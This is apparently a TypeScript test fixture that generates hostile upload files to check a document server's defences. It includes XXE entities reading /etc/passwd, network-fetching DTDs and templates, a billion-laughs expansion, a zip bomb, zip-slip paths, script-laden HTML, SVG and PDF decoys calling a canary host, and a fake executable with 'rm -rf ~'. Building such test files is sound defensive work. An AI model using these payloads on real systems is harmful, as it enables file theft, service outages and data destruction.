import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';

const TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const RELS =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
const WIDE = '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>';
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';

function docx(document: string): Uint8Array {
  const parts = { '[Content_Types].xml': TYPES, '_rels/.rels': RELS, 'word/document.xml': document };
  return zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])));
}

/** A good file with other parts in it as well; `into` stands at the end of its text. */
function withParts(good: Uint8Array, more: Record<string, string>, into = ''): Uint8Array {
  const parts = unzipSync(good);
  const document = strFromU8(parts['word/document.xml']!).replace(
    /(<w:sectPr(?![\s\S]*<w:sectPr))/,
    `${into}$1`,
  );
  const texts = Object.entries({ ...more, 'word/document.xml': document });
  return zipSync({ ...parts, ...Object.fromEntries(texts.map(([name, text]) => [name, strToU8(text)])) });
}

const body = (inner: string, before = ''): string =>
  `<?xml version="1.0"?>${before}<w:document xmlns:w="${W}"><w:body>${inner}</w:body></w:document>`;

const laughs = Array.from({ length: 12 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
export interface BadFile {
  readonly what: string;
  readonly name: string;
  /** Made when it is sent, for some are large. */
  readonly bytes: () => Uint8Array;
}

/** A plan that the server takes, as it gives it out itself. */
export interface GoodFiles {
  readonly docx: Uint8Array;
  readonly html: string;
}

/** Files that want something from the machine that reads them; `canary` is an address that must never be asked. */
export function badFiles(canary: string, good: GoodFiles): BadFile[] {
  const page = (inner: string): Uint8Array => strToU8(good.html.replace('</body>', `${inner}</body>`));
  const outside = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${canary}/t.dotm" TargetMode="External"/></Relationships>`;
  const script = `<script>fetch('${canary}')</script><img src="${canary}/i.png" onerror="fetch('${canary}')"><a href="javascript:alert(1)">Xem</a><iframe src="${canary}"></iframe>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${canary}')"><script>1</script></svg>`;
  return [
    {
      what: 'an external entity of the machine’s files',
      name: 'ke-hoach.docx',
      bytes: () =>
        docx(
          body(
            '<w:p><w:r><w:t>&x;</w:t></w:r></w:p>',
            '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
          ),
        ),
    },
    {
      what: 'an external entity of the network',
      name: 'ke-hoach.docx',
      bytes: () => docx(body('<w:p/>', `<!DOCTYPE x SYSTEM "${canary}/x.dtd">`)),
    },
    {
      what: 'a billion laughs',
      name: 'ke-hoach.docx',
      bytes: () =>
        docx(body('<w:p><w:r><w:t>&l12;</w:t></w:r></w:p>', `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>`)),
    },
    {
      what: 'a zip bomb of 60 MB',
      name: 'ke-hoach.docx',
      bytes: bomb,
    },
    {
      what: 'parts whose names lead out of the folder',
      name: '../../../tmp/ke-hoach.docx',
      bytes: () =>
        withParts(good.docx, {
          '../../../../tmp/duthao-zip-slip.txt': 'x',
          '/etc/duthao-zip-slip': 'x',
        }),
    },
    {
      what: 'a template and pictures from the network',
      name: 'ke-hoach.docx',
      bytes: () =>
        withParts(good.docx, {
          'word/_rels/document.xml.rels': outside,
          'word/_rels/settings.xml.rels': outside,
        }),
    },
    {
      what: 'a table of a million columns',
      name: 'ke-hoach.docx',
      bytes: () => withParts(good.docx, {}, WIDE),
    },
    {
      what: 'half a million nested elements',
      name: 'ke-hoach.docx',
      bytes: () => docx(body('<w:p>'.repeat(500_000))),
    },
    { what: 'a page with scripts', name: 'ke-hoach.html', bytes: () => page(script) },
    { what: 'a page with scripts, named .docx', name: 'ke-hoach.docx', bytes: () => page(script) },
    { what: 'a script, named as a picture', name: 'anh.png', bytes: () => strToU8(svg) },
    { what: 'a picture that is a script', name: 'anh.svg', bytes: () => strToU8(svg) },
    {
      what: 'a script with the first bytes of a PDF',
      name: 'ban-ky.pdf',
      bytes: () => strToU8(`%PDF-1.7\n${script}`),
    },
    {
      what: 'a program, named .docx',
      name: 'ke-hoach.docx',
      bytes: () => strToU8('MZ\u0090\0#!/bin/sh\nrm -rf ~\n'),
    },
  ];
}

/** Their names, before anything is made. */
export const badKinds: readonly string[] = badFiles('', { docx: new Uint8Array(), html: '' }).map(
  ({ what }) => what,
);

function bomb(): Uint8Array {
  const text = strToU8(body(`<w:p><w:r><w:t>${'a'.repeat(60 * 1024 * 1024)}</w:t></w:r></w:p>`));
  const parts = {
    '[Content_Types].xml': strToU8(TYPES),
    '_rels/.rels': strToU8(RELS),
    'word/document.xml': text,
  };
  return zipSync(parts, { level: 1 });
}
